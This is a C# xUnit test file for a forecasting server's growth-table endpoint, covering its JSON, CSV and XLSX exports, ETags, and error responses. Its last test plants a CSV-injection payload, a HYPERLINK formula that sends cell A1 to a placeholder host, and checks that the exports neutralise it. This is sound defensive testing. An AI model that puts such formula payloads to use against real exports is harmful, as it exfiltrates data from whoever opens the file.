using System.Globalization;
using System.Net.Http.Json;
using System.Text.Json;
using CsvHelper;
using Forecast.Catalog.Tests;
using Forecast.Reports;
using Forecast.Reports.Tests;

namespace Forecast.Server.Tests;

[Collection(ServerCollection.Name)]
public sealed class GrowthEndpointTests(ServerFixture server)
{
    [Fact]
    public async Task The_growth_table_has_one_line_per_pair_in_scope()
    {
        var lines = await server.Http.GetFromJsonAsync<JsonElement>("/api/growth?jurisdiction=dandong");

        var pairs = ShippedCatalog.Catalog.Subtree("dandong").Sum(j => ShippedCatalog.Catalog.PairsOf(j.Id).Count());
        Assert.Equal(pairs, lines.GetArrayLength());
        Assert.All(lines.EnumerateArray(), l => Assert.False(string.IsNullOrEmpty(l.GetProperty("category").GetString())));
    }

    [Fact]
    public async Task The_growth_csv_parses_with_the_cli_s_columns_and_the_json_s_lines()
    {
        var response = await server.Http.GetAsync("/api/growth.csv?jurisdiction=zhenxing");
        var json = await server.Http.GetFromJsonAsync<JsonElement>("/api/growth?jurisdiction=zhenxing");

        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.NotNull(response.Headers.ETag);
        using var reader = new StringReader(await response.Content.ReadAsStringAsync());
        using var csv = new CsvReader(reader, CultureInfo.InvariantCulture);
        var rows = csv.GetRecords<dynamic>().Cast<IDictionary<string, object>>().ToList();
        Assert.Equal(json.GetArrayLength(), rows.Count);
        Assert.Equal(
            ["jurisdiction", "indicator", "name_zh", "name_en", "unit", "kind", "direction", "target_year", "target_from_year", "target_comparator", "target_value", "target_clause", "target_evidence", "latest_year", "latest_value", "latest_basis", "latest_source", "history_from_year", "history_from_value", "history_from_basis", "historical_rate", "required_rate", "rate_unit", "ratio", "category", "explanation"],
            rows[0].Keys);
        Assert.All(rows, r => Assert.Equal("zhenxing", r["jurisdiction"]));
        var first = json.EnumerateArray().First();
        Assert.Equal(first.GetProperty("nameZh").GetString(), rows[0]["name_zh"]);
    }

    [Fact]
    public async Task The_growth_workbook_is_a_download_holding_the_csv_s_lines_with_figures_as_numbers()
    {
        var response = await server.Http.GetAsync("/api/growth?jurisdiction=zhenxing&format=xlsx");
        var csv = Csv(await server.Http.GetStringAsync("/api/growth.csv?jurisdiction=zhenxing"));

        Assert.Equal(System.Net.HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(SpreadsheetXlsx.MediaType, response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition?.DispositionType);
        Assert.Equal("growth-zhenxing.xlsx", response.Content.Headers.ContentDisposition?.FileName);
        Assert.NotNull(response.Headers.ETag);
        var workbook = await response.Content.ReadAsByteArrayAsync();
        Assert.Equal([GrowthXlsx.SheetName], WorkbookChecks.SheetNames(workbook));
        Assert.Equal(1, WorkbookChecks.FrozenRows(workbook, GrowthXlsx.SheetName));
        var rows = WorkbookChecks.Records(workbook, GrowthXlsx.SheetName);
        Assert.Equal(csv.Count, rows.Count);
        for (var i = 0; i < csv.Count; i++)
        {
            Assert.Equal(csv[i]["indicator"], rows[i]["指标编号 Indicator id"]);
            Assert.Equal(csv[i]["name_zh"], rows[i]["指标 Indicator"]);
            Assert.Equal(Number(csv[i]["target_value"]), rows[i]["目标值 Target value"]);
            Assert.Equal(Number(csv[i]["latest_value"]), rows[i]["最新值 Latest value"]);
            Assert.Equal(Number(csv[i]["ratio"]), rows[i]["比率 Ratio"]);
            Assert.Equal(csv[i]["category"], rows[i]["类别 Category"]);
        }
    }

    [Fact]
    public async Task The_growth_workbook_keeps_its_etag_and_answers_304_to_it_at_either_address()
    {
        var first = await server.Http.GetAsync("/api/growth.xlsx?jurisdiction=dandong");
        using var again = new HttpRequestMessage(HttpMethod.Get, "/api/growth?jurisdiction=dandong&format=xlsx");
        again.Headers.IfNoneMatch.Add(first.Headers.ETag!);

        var second = await server.Http.SendAsync(again);

        Assert.Equal(System.Net.HttpStatusCode.OK, first.StatusCode);
        Assert.Equal(System.Net.HttpStatusCode.NotModified, second.StatusCode);
        Assert.Equal(first.Headers.ETag, second.Headers.ETag);
    }

    [Fact]
    public async Task A_format_the_table_is_not_served_in_is_a_400_naming_the_parameter()
    {
        var response = await server.Http.GetAsync("/api/growth?jurisdiction=dandong&format=xls");

        Assert.Equal(System.Net.HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        Assert.Contains("format: 'xls' is not one of json, csv, xlsx", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_unknown_jurisdiction_has_no_growth_table()
    {
        var response = await server.Http.GetAsync("/api/growth.csv?jurisdiction=atlantis");

        Assert.Equal(System.Net.HttpStatusCode.NotFound, response.StatusCode);
    }

    [Fact]
    public async Task An_observation_source_that_is_a_formula_is_served_in_the_growth_csv_as_text()
    {
        const string source = "=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"大连市2024年统计公报\")";
        var body = JsonSerializer.Serialize(new { year = 2024, value = 88.5, source, recordedBy = "csv injection test" });
        var recorded = await server.Writer.PostAsync("/api/pairs/dalian/inclusive-kindergarten-coverage/observations", new StringContent(body, System.Text.Encoding.UTF8, "application/json"));
        Assert.Equal(System.Net.HttpStatusCode.Created, recorded.StatusCode);

        var text = await server.Http.GetStringAsync("/api/growth.csv?jurisdiction=dalian");

        using var csv = new CsvReader(new StringReader(text), CultureInfo.InvariantCulture);
        var row = csv.GetRecords<dynamic>().Cast<IDictionary<string, object>>().Single(r => (string)r["indicator"] == "inclusive-kindergarten-coverage");
        Assert.Equal("'" + source, row["latest_source"]);

        // In the workbook it is a text cell holding the source as recorded: no quote added, and no formula anywhere.
        var workbook = await server.Http.GetByteArrayAsync("/api/growth?jurisdiction=dalian&format=xlsx");
        var cell = WorkbookChecks.Records(workbook, GrowthXlsx.SheetName).Single(r => (string?)r["指标编号 Indicator id"] == "inclusive-kindergarten-coverage");
        Assert.Equal(source, cell["最新来源 Latest source"]);
        Assert.Empty(WorkbookChecks.Formulas(workbook));
    }

    private static List<IDictionary<string, object>> Csv(string text)
    {
        using var csv = new CsvReader(new StringReader(text), CultureInfo.InvariantCulture);
        return csv.GetRecords<dynamic>().Cast<IDictionary<string, object>>().ToList();
    }

    private static double? Number(object field) => (string)field is { Length: > 0 } text ? double.Parse(text, CultureInfo.InvariantCulture) : null;
}
